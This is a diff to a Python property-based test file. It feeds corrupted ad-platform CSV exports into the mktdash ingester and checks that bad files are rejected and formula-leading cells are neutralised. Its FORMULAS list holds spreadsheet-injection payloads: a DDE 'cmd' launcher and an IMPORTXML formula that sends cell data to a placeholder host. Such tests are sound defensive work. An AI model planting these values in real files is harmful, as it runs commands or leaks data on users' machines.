@@ -23,25 +23,80 @@ from mktdash import ingest, params, paths
 from mktdash.warehouse import Warehouse
 
 FIX = Path(__file__).resolve().parents[1] / "fixtures" / "exports"
-FIVETRAN_SAMPLE = paths.project_root().parent / "shared" / "data" / "external" / "fivetran_ad_report_sample.csv"
+FIVETRAN_SAMPLE = (
+    paths.project_root().parent / "shared" / "data" / "external" / "fivetran_ad_report_sample.csv"
+)
 TODAY = dt.date(2026, 1, 1)
 
 # fixture -> (encoding, separator, header line, parsed numeric columns, a text column)
 BASES = {
-    "google_ads_campaign_day.csv": ("utf-8", ",", 3, ["Impr.", "Clicks", "Cost", "Conversions", "Conv. value"], "Campaign"),
-    "meta_ads_manager_daily.csv": ("utf-8", ",", 1, ["Amount spent (USD)", "Impressions", "Link clicks", "Results"], "Ad name"),
-    "microsoft_ads_campaign.csv": ("utf-8-sig", ",", 11, ["Impressions", "Clicks", "Spend", "Revenue"], "Campaign name"),
-    "tiktok_ads_daily.csv": ("utf-8", ",", 1, ["Cost", "Impressions", "Clicks (destination)", "Conversions"], "Ad name"),
-    "google_ads_editor_2025-07-08.csv": ("utf-16", "\t", 1, ["Clicks", "Impr.", "Cost", "Conv. value"], "Ad Group"),
+    "google_ads_campaign_day.csv": (
+        "utf-8",
+        ",",
+        3,
+        ["Impr.", "Clicks", "Cost", "Conversions", "Conv. value"],
+        "Campaign",
+    ),
+    "meta_ads_manager_daily.csv": (
+        "utf-8",
+        ",",
+        1,
+        ["Amount spent (USD)", "Impressions", "Link clicks", "Results"],
+        "Ad name",
+    ),
+    "microsoft_ads_campaign.csv": (
+        "utf-8-sig",
+        ",",
+        11,
+        ["Impressions", "Clicks", "Spend", "Revenue"],
+        "Campaign name",
+    ),
+    "tiktok_ads_daily.csv": (
+        "utf-8",
+        ",",
+        1,
+        ["Cost", "Impressions", "Clicks (destination)", "Conversions"],
+        "Ad name",
+    ),
+    "google_ads_editor_2025-07-08.csv": (
+        "utf-16",
+        "\t",
+        1,
+        ["Clicks", "Impr.", "Cost", "Conv. value"],
+        "Ad Group",
+    ),
 }
 MUST_FAIL = {"empty", "garbage", "huge", "dup_header", "latin1", "drop_header_cell"}
-GARBAGE = st.one_of(st.sampled_from(["abc", "1..2", "12,3,4.5.6", "$$", "--x", "N/A!", "1e", "0x1F", "½"]),
-                    st.from_regex(r"[A-Za-z#$&]{1,6}", fullmatch=True))
+GARBAGE = st.one_of(
+    st.sampled_from(["abc", "1..2", "12,3,4.5.6", "$$", "--x", "N/A!", "1e", "0x1F", "½"]),
+    st.from_regex(r"[A-Za-z#$&]{1,6}", fullmatch=True),
+)
 HUGE = st.sampled_from(["1e400", "-1e400", "99999999999999999999", "5e15", "-7e13", "inf", "NaN"])
-FORMULAS = st.sampled_from(['=HYPERLINK("http://x","y")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
-                            "-2+3+cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"])
-OPS = ["truncate", "empty", "latin1", "utf16_nobom", "drop_header_cell", "rename_col", "dup_header", "garbage",
-       "huge", "formula", "blank_line", "delete_line", "random_bytes"]
+FORMULAS = st.sampled_from(
+    [
+        '=HYPERLINK("http://x","y")',
+        "=1+2",
+        "+cmd|' /C calc'!A0",
+        "@SUM(A1:A9)",
+        "-2+3+cmd|' /C calc'!A0",
+        '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
+    ]
+)
+OPS = [
+    "truncate",
+    "empty",
+    "latin1",
+    "utf16_nobom",
+    "drop_header_cell",
+    "rename_col",
+    "dup_header",
+    "garbage",
+    "huge",
+    "formula",
+    "blank_line",
+    "delete_line",
+    "random_bytes",
+]
 EXAMPLES, PER_EXAMPLE = 40, 5  # 200 malformed files per run (derandomized: the same 200 every run)
 COUNTER = itertools.count()
 SEEN_OPS: set[str] = set()
@@ -77,7 +132,8 @@ def _encode(text: str, enc: str) -> bytes:
 
 
 @st.composite
-def variant(draw: st.DrawFn) -> tuple[str, str, bytes]:
+def variant(draw: st.DrawFn, op: str | None = None) -> tuple[str, str, bytes]:
+    """A malformed copy of a fixture: ``op`` (one of ``OPS``) applied, or a drawn one."""
     name = draw(st.sampled_from(sorted(BASES)))
     enc, sep, header, numeric, text_col = BASES[name]
     raw = (FIX / name).read_bytes()
@@ -85,7 +141,7 @@ def variant(draw: st.DrawFn) -> tuple[str, str, bytes]:
     lines = _lines(text)
     head = next(csv.reader([lines[header - 1].rstrip("\r")], delimiter=sep))
     data = _rows_for(lines, header, sep)
-    op = draw(st.sampled_from(OPS))
+    op = op or draw(st.sampled_from(OPS))
     if op == "truncate":
         return op, name, _encode(text[: draw(st.integers(0, len(text) - 1))], enc)
     if op == "empty":
@@ -115,7 +171,10 @@ def variant(draw: st.DrawFn) -> tuple[str, str, bytes]:
         if op == "formula":
             col, value = head.index(text_col), draw(FORMULAS)
         else:
-            col, value = head.index(draw(st.sampled_from(numeric))), draw(GARBAGE if op == "garbage" else HUGE)
+            col, value = (
+                head.index(draw(st.sampled_from(numeric))),
+                draw(GARBAGE if op == "garbage" else HUGE),
+            )
         lines[i] = _edit_cell(lines[i], sep, col, value)
         return op, name, _encode("\n".join(lines), enc)
     if op == "blank_line":
@@ -136,8 +195,9 @@ def world(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-
         mp.setenv("MKTDASH_PII_SALT", "robust")
         wh = Warehouse.memory()
         cfg = params.resolve()
-        rep = ingest.ingest_paths(wh, [FIVETRAN_SAMPLE, FIX / "linkedin_campaign_performance.csv"], cfg,
-                                  progress=False, today=TODAY)
+        rep = ingest.ingest_paths(
+            wh, [FIVETRAN_SAMPLE, FIX / "linkedin_campaign_performance.csv"], cfg, progress=False, today=TODAY
+        )
         assert [f.status for f in rep.files] == ["loaded", "loaded"]
         good_ids = [f.ingest_id for f in rep.files]
         yield wh, cfg, home, good_ids, _good_totals(wh, good_ids)
@@ -145,14 +205,28 @@ def world(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-
 
 def _good_totals(wh: Warehouse, ids: list[str | None]) -> tuple:
     inlist = ", ".join(f"'{i}'" for i in ids)
-    r = wh.sql(f"SELECT count(*) n, sum(clicks) c, round(sum(spend), 2) s, round(sum(conversions_value), 2) v "
-               f"FROM ad_daily WHERE ingest_id IN ({inlist})")
+    r = wh.sql(
+        f"SELECT count(*) n, sum(clicks) c, round(sum(spend), 2) s, round(sum(conversions_value), 2) v "
+        f"FROM ad_daily WHERE ingest_id IN ({inlist})"
+    )
     return tuple(r.iloc[0].tolist())
 
 
 @settings(max_examples=EXAMPLES, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
 @given(batch=st.lists(variant(), min_size=PER_EXAMPLE, max_size=PER_EXAMPLE))
 def test_malformed_exports(world, batch: list[tuple[str, str, bytes]]) -> None:  # type: ignore[no-untyped-def]
+    _ingest_and_check(world, batch)
+
+
+@pytest.mark.parametrize("op", OPS)
+@settings(max_examples=3, deadline=None, derandomize=True, suppress_health_check=list(HealthCheck))
+@given(data=st.data())
+def test_every_mutation(world, op: str, data: st.DataObject) -> None:  # type: ignore[no-untyped-def]
+    """Every kind of damage, whatever the property test above happened to draw (up to three files each)."""
+    _ingest_and_check(world, [data.draw(variant(op))])
+
+
+def _ingest_and_check(world, batch: list[tuple[str, str, bytes]]) -> None:  # type: ignore[no-untyped-def]
     wh, cfg, home, good_ids, good = world
     folder = home / "mutants"
     folder.mkdir(exist_ok=True)
@@ -181,15 +255,17 @@ def test_malformed_exports(world, batch: list[tuple[str, str, bytes]]) -> None: 
         s = texts[c].dropna().astype(str)
         assert not s.str.match(r"^[=+@]").any(), s[s.str.match(r"^[=+@]")].tolist()
     # no half-loaded file: every ad row belongs to a ledger row that says loaded/replaced
-    orphans = wh.sql("SELECT count(*) n FROM ad_daily a LEFT JOIN ingest_ledger l ON a.ingest_id = l.ingest_id "
-                     "AND l.status IN ('loaded', 'replaced') WHERE l.ingest_id IS NULL")
+    orphans = wh.sql(
+        "SELECT count(*) n FROM ad_daily a LEFT JOIN ingest_ledger l ON a.ingest_id = l.ingest_id "
+        "AND l.status IN ('loaded', 'replaced') WHERE l.ingest_id IS NULL"
+    )
     assert int(orphans["n"][0]) == 0
 
 
 def test_enough_variants_were_generated() -> None:
-    """Runs after the property test (file order): it really fed >= 200 files covering every mutation."""
+    """Runs after the two tests above (file order): they really fed >= 200 files covering every mutation."""
     n = next(COUNTER)
     if n == 0:
         pytest.skip("run together with test_malformed_exports")
-    assert n >= 200
+    assert n >= 200 + len(OPS)
     assert set(OPS) == SEEN_OPS, set(OPS) - SEEN_OPS
